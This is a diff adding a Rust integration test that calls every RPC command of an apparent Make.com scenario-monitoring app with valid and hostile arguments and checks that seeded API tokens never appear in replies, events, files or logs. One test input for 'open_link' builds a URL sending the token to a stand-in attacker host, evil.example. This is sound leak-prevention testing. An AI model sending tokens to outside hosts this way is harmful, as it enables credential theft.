@@ -1,0 +1,167 @@
+//! No secret leaves the vault: not to the page, not to the disk, not to the log.
+
+use std::collections::BTreeSet;
+use std::fs;
+use std::io::{self, Write};
+use std::path::Path;
+use std::sync::{Arc, Mutex, PoisonError};
+use std::time::Duration;
+
+use journeys::World;
+use journeys::world::of;
+use make_sandbox::{Fault, FaultKind, Size};
+use mandor_core::rpc;
+use mandor_core::scenarios::rows::{Permission, ScenarioRow};
+use serde_json::{Value, json};
+use tracing_subscriber::fmt::MakeWriter;
+
+/// Everything that was logged.
+#[derive(Clone, Default)]
+struct Log(Arc<Mutex<Vec<u8>>>);
+
+impl Write for Log {
+    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
+        let mut log = self.0.lock().unwrap_or_else(PoisonError::into_inner);
+        log.extend_from_slice(bytes);
+        Ok(bytes.len())
+    }
+
+    fn flush(&mut self) -> io::Result<()> {
+        Ok(())
+    }
+}
+
+impl MakeWriter<'_> for Log {
+    type Writer = Self;
+
+    fn make_writer(&self) -> Self {
+        self.clone()
+    }
+}
+
+/// Arguments with which each command does what it is for, and some with which it fails.
+fn arguments(name: &str, world: &World, row: &ScenarioRow, entry: &Value) -> Vec<Value> {
+    let zone = &world.ready().zones[1];
+    let known = of(row);
+    let unknown = json!({ "key": { "zone": 99, "id": 99 } });
+    match name {
+        "add_token_account" => vec![
+            json!({ "token": zone.token }),
+            json!({ "token": zone.token }),
+            json!({ "token": zone.token, "address": "make.example.org" }),
+            json!({ "token": format!("{}-wrong", zone.token) }),
+            json!({ "token": 17, "secret": zone.token }),
+        ],
+        "forget_account" => vec![json!({ "account": 99 })],
+        "get_scenario" | "run_scenario" | "pause_scenario" | "turn_on_scenario" => {
+            vec![known, unknown, json!({ "key": zone.token })]
+        }
+        "undo_action" | "send_now" => vec![json!({ "entry": entry }), json!({ "entry": 99 })],
+        "settle_held" => vec![json!({ "send": true })],
+        "close_window" => vec![
+            json!({ "keepWatching": true }),
+            json!({ "remember": zone.token }),
+        ],
+        "get_today" => vec![json!({}), json!({ "organization": row.organization })],
+        "change_settings" => vec![
+            json!({ "language": "id" }),
+            json!({ "language": zone.token }),
+        ],
+        "open_link" => vec![
+            json!({ "url": "https://eu1.make.com/user/api" }),
+            json!({ "url": format!("https://evil.example/?t={}", zone.token) }),
+        ],
+        "get_shell" | "open_demo" | "list_organizations" | "get_meter" | "list_scenarios"
+        | "list_activity" | "get_settings" | "check_now" | "quit" => vec![Value::Null],
+        _ => panic!("{name} is new: say how to call it here"),
+    }
+}
+
+#[tokio::test]
+async fn no_secret_is_in_any_reply_event_file_or_log_line() {
+    let log = Log::default();
+    let everything = tracing_subscriber::fmt()
+        .with_max_level(tracing::Level::TRACE)
+        .with_writer(log.clone())
+        .finish();
+    tracing::subscriber::set_global_default(everything).expect("nobody else logs in this program");
+
+    let mut world = World::demo(Size::Agency).await.unwrap();
+    let row = world
+        .row(|row| row.is_active && row.permission == Permission::Allowed)
+        .await
+        .unwrap()
+        .unwrap();
+    let held = world.get("pause_scenario", of(&row)).await.unwrap();
+    let mut said = Vec::new();
+    for name in rpc::NAMES {
+        for args in arguments(name, &world, &row, &held["id"]) {
+            said.push(match world.ask(name, args).await {
+                Ok(reply) => format!("{name}: {reply}"),
+                Err(problem) => format!("{name}: {problem:?}"),
+            });
+        }
+    }
+    for kind in [
+        FaultKind::HtmlPage,
+        FaultKind::Unauthorized,
+        FaultKind::CutBody,
+    ] {
+        world.control().set_fault(Fault::new(kind));
+        world.get("check_now", Value::Null).await.unwrap();
+        world.later(Duration::from_mins(2)).await;
+        world.control().clear_faults(None);
+        said.push(world.shell().await.unwrap().to_string());
+    }
+    said.extend(world.news().iter().map(|event| format!("{event:?}")));
+
+    let secrets = seeded(&world);
+    assert!(secrets.len() >= 3, "three zones, three tokens");
+    let said = said.join("\n");
+    let log = log.0.lock().unwrap_or_else(PoisonError::into_inner);
+    assert!(log.len() > 10_000, "the log was really written");
+    for secret in secrets {
+        assert!(!said.contains(&secret), "in a reply or event");
+        assert!(!holds(&log, &secret), "in the log");
+        assert!(!folder_holds(world.folder(), &secret), "in a file");
+    }
+}
+
+/// Every seeded token as it is, in its first twelve characters, and in Base64.
+fn seeded(world: &World) -> BTreeSet<String> {
+    let tokens = world.ready().zones.iter().map(|zone| zone.token.as_str());
+    tokens
+        .flat_map(|token| [token.to_owned(), token[..12].to_owned(), base64(token)])
+        .collect()
+}
+
+fn base64(text: &str) -> String {
+    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    // Whole groups only: the last letters would depend on what follows the token.
+    text.as_bytes()
+        .chunks_exact(3)
+        .flat_map(|part| {
+            let bits = part
+                .iter()
+                .fold(0_usize, |bits, byte| bits << 8 | usize::from(*byte));
+            [18, 12, 6, 0].map(|shift| char::from(LETTERS[bits >> shift & 63]))
+        })
+        .collect()
+}
+
+fn holds(bytes: &[u8], needle: &str) -> bool {
+    bytes
+        .windows(needle.len())
+        .any(|part| part == needle.as_bytes())
+}
+
+fn folder_holds(folder: &Path, needle: &str) -> bool {
+    fs::read_dir(folder).unwrap().any(|entry| {
+        let path = entry.unwrap().path();
+        if path.is_dir() {
+            folder_holds(&path, needle)
+        } else {
+            holds(&fs::read(path).unwrap(), needle)
+        }
+    })
+}
